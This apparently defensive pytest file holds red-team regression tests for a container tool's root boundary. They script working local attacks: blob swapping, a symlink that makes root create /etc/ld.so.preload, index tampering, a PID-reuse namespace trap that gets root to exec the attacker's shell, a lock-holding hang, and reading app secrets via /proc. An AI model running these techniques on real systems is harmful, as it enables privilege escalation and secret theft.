"""Red-team attacks on the root boundary that WORK on the code under review (issue #10 follow-up).

Each test makes the attack as the real unprivileged user in group rkt (through an
unprivileged ``/bin/sh``, so not even the exec'd path is resolved with root's rights), then
runs the ordinary root command, and asserts what a fixed trustd must guarantee. They FAIL
today; each docstring says what is wrong and the fix.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import sqlite3
import subprocess
import tarfile
from pathlib import Path

import pytest

from tests._busybox import busybox_aci
from tests.conftest import ConfigDirs, Keys
from tests.integration._attacker import member
from tests.integration.conftest import (
    NAME,
    RKT,
    app_output,
    ensure_user,
    rkt,
    serve_signed_acis,
    trust_good_key,
)


def as_member(script: str) -> subprocess.CompletedProcess[str]:
    """``script`` in an unprivileged shell as trustd-it-user:rkt; it must succeed."""
    return member("/bin/sh", "-c", script)


def _digest(dirs: ConfigDirs, key: str) -> str:
    conn = sqlite3.connect(dirs.data / "cas/db/index.sqlite")
    try:
        (digest,) = conn.execute("SELECT digest FROM images WHERE key = ?", (key,)).fetchone()
    finally:
        conn.close()
    return str(digest)


def _blob(dirs: ConfigDirs, key: str) -> Path:
    return dirs.data / "cas/blob/sha512" / key[7:9] / key


def _swap_blob(dirs: ConfigDirs, key: str, data: bytes, scratch: Path) -> None:
    """The group replaces the stored archive of ``key`` (the file is 0440, its directory
    is group-writable: remove-and-rename)."""
    del scratch  # pytest's tmp_path is root-only: stage beside the data dir (0755)
    src = dirs.data.parent / "swap.bin"
    src.write_bytes(data)
    src.chmod(0o644)
    blob = _blob(dirs, key)
    as_member(f"cp '{src}' '{blob}/.new' && mv -f '{blob}/.new' '{blob}/image.aci'")


def _evil_tar(first_name: str) -> bytes:
    """A plain tar whose first header starts with ``first_name`` then NUL bytes: the format
    of /etc/ld.so.preload (glibc stops at the first NUL, splits on whitespace and ':')."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo(first_name)
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    return buf.getvalue()


def test_root_image_export_writes_only_bytes_that_hash_to_the_id(
    shared_dirs: ConfigDirs, image: str, tmp_path: Path
) -> None:
    """Found by the red team (fixed: the export is hashed against the ID while it is written,
    trustd/privileged/treestore/render.py). ``rkt image export ID OUT`` as root copies
    ``cas/blob/.../image.aci`` (safely, beneath the cas fd) but never checks that the copy
    hashes to ID: a member of group rkt who swapped the blob gets root to emit the member's
    bytes as image ID (export even re-checks nothing about the signature). Fix: hash the private
    copy (inspect_aci / readmit_key's hash check) against the full ID before writing OUT, and
    refuse otherwise."""
    evil = _evil_tar("rootfs/planted")
    _swap_blob(shared_dirs, image, evil, tmp_path)
    out = tmp_path / "exported.aci"
    result = rkt(shared_dirs, "image", "export", image, str(out))
    assert result.returncode == 254, "root exported an archive that does not hash to the ID"
    assert not out.exists() or out.read_bytes() != evil


def test_root_image_export_never_writes_through_a_planted_symlink(
    shared_dirs: ConfigDirs, image: str, root_only: Path, sticky_tmp: Path, tmp_path: Path
) -> None:
    """Found by the red team (fixed: trustd/privileged/_output.py), with
    fs.protected_symlinks=0, as on this host, or any OUT in a directory
    another user can write). ``args.output.exists()`` follows the link (a dangling one says
    no) and ``open("wb")`` creates the link's target as root: any local user who plants
    ``OUT -> /etc/ld.so.preload`` makes root create that file. Combined with the blob swap
    above, its content starts with a name the member chose followed by NUL ("/tmp/evil.so"),
    which glibc preloads into every process, setuid ones included: root. Fix: open OUT with
    O_NOFOLLOW|O_CREAT|O_EXCL (or write a temp file beside it and rename), refuse an OUT whose
    directory is writable by others unless sticky-and-ours; verify the bytes (test above).
    The same path-following write is in ``rkt export`` (tarfile.open(out, "w") as root),
    ``--uuid-file-save`` and ``rkt attest key/quote --out``."""
    victim = root_only / "ld.so.preload"  # the image as stored: no blob swap needed here
    out = sticky_tmp / "busybox.aci"
    as_member(f"ln -s '{victim}' '{out}'")
    rkt(shared_dirs, "image", "export", image, str(out))
    assert not victim.exists(), (
        f"root created {victim} through a user's symlink: {victim.read_bytes()[:32]!r}"
    )


def test_an_unversioned_name_runs_the_newest_image_root_fetched_not_the_groups_pick(
    shared_dirs: ConfigDirs, keys: Keys, tmp_path: Path
) -> None:
    """Found by the red team, fixed in session 8 (``_index.pin_fetched``,
    ``datadir.root_fetched``). ``rkt run NAME`` (no version) resolved NAME to "the newest
    import" in the group-writable index (import_time), and root's check is only that the
    verified manifest says NAME: a member rewrote import_time and root ran that rollback.
    Root now keeps its own record of the images its fetches admitted and orders a name's
    images by it, for ``run`` (the fetch child) and for the other verbs that take a name (the
    lookup child). Still on record: a member may remove the newer image from the store, and
    an image root never fetched is ordered by the index."""
    subprocess.run(["bash", "scripts/setup-groups.sh"], check=True)
    trust_good_key(shared_dirs, keys, tmp_path)
    ids = {}
    for version in ("1.0.0", "2.0.0"):  # the old release first, then the fixed one
        aci = busybox_aci(
            tmp_path / f"bb-{version}.aci",
            NAME,
            version=version,
            files={"release": version.encode() + b"\n"},
        )
        keys.gpg.sign(keys.good, aci, Path(f"{aci}.asc"))
        ids[version] = rkt(shared_dirs, "fetch", "--full", str(aci), check=True).stdout.strip()
    db = shared_dirs.data / "cas/db/index.sqlite"
    as_member(
        f"sqlite3 '{db}' \"UPDATE images SET import_time = '2999-01-01T00:00:00+00:00' "  # noqa: S608
        f"WHERE key = '{ids['1.0.0']}'\""
    )
    result = rkt(shared_dirs, "run", NAME, "--exec=/bin/cat", "--", "/release")
    assert result.returncode == 0, result.stderr
    assert app_output(result.stdout).split()[-1:] == ["2.0.0"], (
        f"root ran the release the group picked: {result.stdout!r}"
    )
    shown = rkt(shared_dirs, "image", "cat-manifest", NAME, check=True).stdout
    assert {"name": "version", "value": "2.0.0"} in json.loads(shown)["labels"]


def _fetch_url(dirs: ConfigDirs, url: str, *flags: str) -> str:
    done = rkt(dirs, "--insecure-options=http", "fetch", "--full", *flags, url)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


@pytest.mark.parametrize("policy", ["new", "update"])
def test_a_cached_url_gives_the_image_root_fetched_from_it_not_the_groups_pick(
    shared_dirs: ConfigDirs, keys: Keys, tmp_path: Path, policy: str
) -> None:
    """Found in session 8 (fixed: ``Index.pin_remotes``, ``datadir.root_remotes``). ``rkt
    fetch`` and ``rkt run`` of a URL under ``--pull-policy=new`` (``run``'s default) answer
    from the index's ``remotes`` table (URL -> key) without asking the server, and ``update``
    answers from it on a 304 to the ETag the table holds. The table is the group's: a member
    pointed the URL of one image at another signed image in the store (with that image's
    ETag), and root got that one (which root still verified against the policy of that
    image's own name). Root now keeps its own record of the URLs it fetched (key, ETag,
    max-age) in ``<dir>/private`` and its fetch child consults only that; the group's table
    serves members' own fetches."""
    from tests._https import LocalServer  # noqa: PLC0415

    subprocess.run(["bash", "scripts/setup-groups.sh"], check=True)
    trust_good_key(shared_dirs, keys, tmp_path)
    with LocalServer() as srv:
        urls = serve_signed_acis(srv, keys, tmp_path, (NAME, "example.com/other"), '"{}"')
        ids = {name: _fetch_url(shared_dirs, url) for name, url in urls.items()}
        other = ids["example.com/other"]
        db = shared_dirs.data / "cas/db/index.sqlite"
        as_member(  # the other image's key and ETag for the URL of the first
            f"sqlite3 '{db}' \"UPDATE remotes SET key = '{other[:71]}', "  # noqa: S608
            f"etag = (SELECT etag FROM remotes WHERE key = '{other[:71]}') "
            f"WHERE url = '{urls[NAME]}'\""
        )
        again = _fetch_url(shared_dirs, urls[NAME], f"--pull-policy={policy}")
    assert again == ids[NAME], "root got the image the group mapped the URL to"
    record = shared_dirs.data / "private" / "remotes.json"
    st = record.stat()
    assert (st.st_uid, st.st_mode & 0o777) == (0, 0o600)
    assert json.loads(record.read_text())[urls[NAME]][0] == ids[NAME][:71]


# --- rkt enter trusts a stale pid file: pid reuse by any local user -------------------------

_GRAB_PID = r"""
import os, sys
target, payload = int(sys.argv[1]), sys.argv[2]
script = f"mount --bind {payload} /usr/bin/dash && exec sleep 300"
while True:
    pid = os.fork()
    if pid == 0:
        if os.getpid() == target:  # ours now: a user+mount namespace of ours, same pid
            os.execvp("unshare", ["unshare", "-Urm", "/bin/bash", "-c", script])
        os._exit(0)
    if pid == target:
        break
    os.waitpid(pid, 0)
"""


def test_rkt_enter_never_joins_a_process_that_reused_an_exited_apps_pid(
    shared_dirs: ConfigDirs, image: str, root_only: Path
) -> None:
    """Found by the red team (fixed: trustd/privileged/executor/_procs.py): local root for any
    user who can create a user namespace. In a pod of two
    apps, app ``a`` exits while ``b`` runs (the pod stays RUNNING). ``apps/a/pid`` still holds
    a's host PID and enter checks only ``kill(pid, 0)``. An unprivileged user forks until
    the kernel hands them that PID (pid_max is 32768 here), makes it a user+mount namespace
    with their own program bind-mounted over /bin/sh, and waits. ``rkt enter --app=a UUID``
    (as root) opens /proc/PID/ns/*, joins the attacker's mount namespace (root may join any
    namespace), keeps the host user namespace, and execs the attacker's /bin/sh as uid 0 with
    the app's capabilities (CAP_DAC_OVERRIDE, CAP_SETUID...) on the host's filesystems.
    Fix: never name a process by a PID read from a file: keep a pidfd (or the pod init's
    word over a socket) and refuse an app whose ``exit`` file exists; at least check, through
    a pidfd opened before the check, that the process is a descendant of the pod's init and
    in the pod's namespaces (compare /proc/PID/ns/* with the init's) and cgroup."""
    import time  # noqa: PLC0415

    marker = root_only / "pwned"
    uuid_file = shared_dirs.data.parent / "uuid"
    pod = subprocess.Popen(
        [
            RKT,
            *shared_dirs.flags(),
            "run",
            f"--uuid-file-save={uuid_file}",
            image,
            "--name=a",
            "--exec=/bin/true",
            image,
            "--name=b",
            "--exec=/bin/sleep",
            "--",
            "600",
        ],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    attacker, uuid, stale = None, "", 0
    try:
        for _ in range(100):
            if uuid_file.exists() and uuid_file.read_text().strip():
                uuid = uuid_file.read_text().strip()
                exit_file = shared_dirs.data / "pods/run" / uuid / "apps/a/exit"
                if exit_file.exists():
                    break
            time.sleep(0.2)
        else:
            pytest.fail("the pod did not start")
        stale = int((shared_dirs.data / "pods/run" / uuid / "apps/a/pid").read_text())
        payload = shared_dirs.data.parent / "payload.sh"
        payload.write_text(f"#!/bin/bash\nid > {marker} 2>&1 || true\necho entered-the-trap\n")
        payload.chmod(0o755)
        grab = shared_dirs.data.parent / "grab.py"
        grab.write_text(_GRAB_PID)
        grab.chmod(0o644)
        user = ensure_user()
        attacker = subprocess.Popen(
            [
                "setpriv",
                f"--reuid={user}",
                "--regid=rkt",
                "--init-groups",
                "--",
                "/bin/sh",
                "-c",
                f"exec python3 {grab} {stale} {payload}",
            ],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        attacker.wait(timeout=300)  # returns once a process of the user holds the PID
        for _ in range(50):  # its unshare and bind mount done
            status = Path(f"/proc/{stale}/status")
            if status.exists() and "sleep" in Path(f"/proc/{stale}/comm").read_text():
                break
            time.sleep(0.1)
        entered = rkt(shared_dirs, "enter", "--app=a", uuid, "/bin/sh", "-c", "echo inside")
        assert not marker.exists(), f"the user's program ran as {marker.read_text()!r}"
        assert "entered-the-trap" not in entered.stdout, "root exec'd the user's program"
        assert entered.returncode != 0
    finally:
        if stale > 1:
            with contextlib.suppress(OSError):
                os.kill(stale, 9)  # the user's squatter (test cleanup as root)
        if uuid:
            rkt(shared_dirs, "stop", "--force", uuid)
        pod.kill()
        pod.wait()


def test_a_member_holding_the_store_lock_cannot_hang_root_gc_and_every_root_run(
    shared_dirs: ConfigDirs, image: str
) -> None:
    """Found by the red team; holds since gc/rm's root part moved into the root program (denial of
    service of root's operations, not of the group's images). ``rkt image gc`` as root takes
    ``private/lock`` exclusively, then blocks without a timeout on ``flock(cas/lock, LOCK_EX)``
    (sweep_store_tmp; image rm's index work too). A member holding a shared flock on the group-
    writable ``cas/lock`` keeps root gc waiting forever (in the privsep child's store gc or in
    sweep_store_tmp) while it holds the tree lock, so every root ``rkt run``/``prepare`` (which
    takes the tree lock shared) hangs too. Fix: never wait on a lock the group can hold while
    holding root's own: LOCK_NB with a bounded retry on cas/lock (skip the sweep, say so), or
    take it before the tree lock."""
    full = "sha512-" + _digest(shared_dirs, image)  # a full ID: no index, no cas/lock needed
    assert rkt(shared_dirs, "run", full, "--exec=/bin/true").returncode == 0
    user = ensure_user()
    holder = subprocess.Popen(  # a member's long "fetch"
        [
            "setpriv",
            f"--reuid={user}",
            "--regid=rkt",
            "--init-groups",
            "--",
            "/bin/sh",
            "-c",
            f"exec flock -s '{shared_dirs.data}/cas/lock' sleep 120",
        ],
        stdin=subprocess.DEVNULL,
        start_new_session=True,  # flock forks sleep: kill the whole group
    )
    try:
        import time  # noqa: PLC0415

        time.sleep(1)
        gc = subprocess.Popen(
            [RKT, *shared_dirs.flags(), "image", "gc"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(3)
        try:
            run = subprocess.run(
                [RKT, *shared_dirs.flags(), "run", full, "--exec=/bin/true"],
                capture_output=True,
                timeout=30,
                check=False,
                stdin=subprocess.DEVNULL,
            )
        except subprocess.TimeoutExpired:
            pytest.fail(
                f"root run of {full[:20]} hung behind root gc, which waits on the group's lock"
            )
        finally:
            gc.kill()
            gc.wait()
        assert run.returncode == 0, run.stderr
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(holder.pid, 9)
        holder.wait()


def test_a_host_user_with_the_apps_uid_cannot_read_its_secrets_or_rootfs(
    shared_dirs: ConfigDirs, image: str
) -> None:
    """Found by the red team (issue #16). Apps run as host uids (no user namespace), exec'd
    fresh, so they are dumpable: when the app's user is N (``--user`` or the image manifest's
    ``app.user``, e.g. 1000), any host account with uid N reads ``/proc/PID/environ`` (the pod's
    --set-env secrets, AC_METADATA_URL with the mds token), walks ``/proc/PID/root`` (the app's
    rootfs and volumes) and may ptrace the app. Fixed by ``--private-users``: the pod's uids are
    mapped into a range no host account uses (ADR 0022), so the app is host uid
    shift + N. Without the flag the exposure stays (docs/threat-model.md); a scope closes it
    with ``run.private_users = "required"``."""
    import pwd  # noqa: PLC0415
    import time  # noqa: PLC0415

    user = ensure_user()
    uid, gid = pwd.getpwnam(user).pw_uid, pwd.getpwnam(user).pw_gid
    secret = "trustd-red-secret-4242"
    pod = subprocess.Popen(
        [
            RKT,
            *shared_dirs.flags(),
            "run",
            "--private-users",
            image,
            f"--user={uid}",
            f"--group={gid}",
            f"--set-env=DB_PASSWORD={secret}",
            "--exec=/bin/sleep",
            "--",
            "297",
        ],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        pid = 0
        for _ in range(100):
            found = subprocess.run(
                ["pgrep", "-f", "-x", "/bin/sleep 297"],
                capture_output=True,
                text=True,
                check=False,
            ).stdout.split()
            if found:
                pid = int(found[0])
                break
            time.sleep(0.1)
        assert pid, "the app did not start"
        time.sleep(1)  # past its exec
        host_uid = int(Path(f"/proc/{pid}/status").read_text().split("Uid:")[1].split()[0])
        assert host_uid != uid and host_uid > 65535  # shift + uid, in the pod's own range
        seen = subprocess.run(
            [
                "setpriv",
                f"--reuid={user}",
                "--regid=rkt",
                "--init-groups",
                "--",
                "/bin/sh",
                "-c",
                f"cat /proc/{pid}/environ; "
                f"test -e /proc/{pid}/root/bin/busybox && echo ROOTFS-REACHED",
            ],
            capture_output=True,
            text=True,
            check=False,
        ).stdout
        assert secret not in seen, "a host user read the pod's secret from /proc/PID/environ"
        assert "ROOTFS-REACHED" not in seen, (
            "a host user walked the app's rootfs via /proc/PID/root"
        )
    finally:
        pod.kill()
        pod.wait()
        if pid:
            with contextlib.suppress(OSError):
                os.kill(pid, 9)


def test_roots_record_of_fetched_images_is_read_only_for_a_lookup_by_name(
    shared_dirs: ConfigDirs, keys: Keys, tmp_path: Path
) -> None:
    """The order of a name's images is root's (the test above), so root reads its record of
    the images it fetched before a lookup by name; a lookup by image ID never orders images,
    and ``rkt run ID``'s start path does not read it (issue #14: a read on every start).
    Seen through a record root cannot read, which root warns about when it does read it."""
    subprocess.run(["bash", "scripts/setup-groups.sh"], check=True)
    trust_good_key(shared_dirs, keys, tmp_path)
    aci = busybox_aci(tmp_path / "bb.aci", NAME, version="1.0.0")
    keys.gpg.sign(keys.good, aci, Path(f"{aci}.asc"))
    image = rkt(shared_dirs, "fetch", "--full", str(aci), check=True).stdout.strip()
    record = shared_dirs.data / "private/fetched.json"
    kept = record.read_bytes()
    record.unlink()
    record.mkdir()  # root's own directory: "not a regular file", a warning when read
    try:
        by_id = {
            "run": rkt(shared_dirs, "run", image[:30], "--exec=/bin/true"),
            "cat-manifest": rkt(shared_dirs, "image", "cat-manifest", image[:30]),
            "policy explain": rkt(shared_dirs, "policy", "explain", image[:30]),
        }
        by_name = rkt(shared_dirs, "image", "cat-manifest", NAME)
    finally:
        record.rmdir()
        record.write_bytes(kept)
    for verb, result in by_id.items():
        assert result.returncode == 0, (verb, result.stderr)
        assert "fetched.json" not in result.stderr, (verb, result.stderr)
    assert by_name.returncode == 0, by_name.stderr
    assert "fetched.json is not a regular file" in by_name.stderr
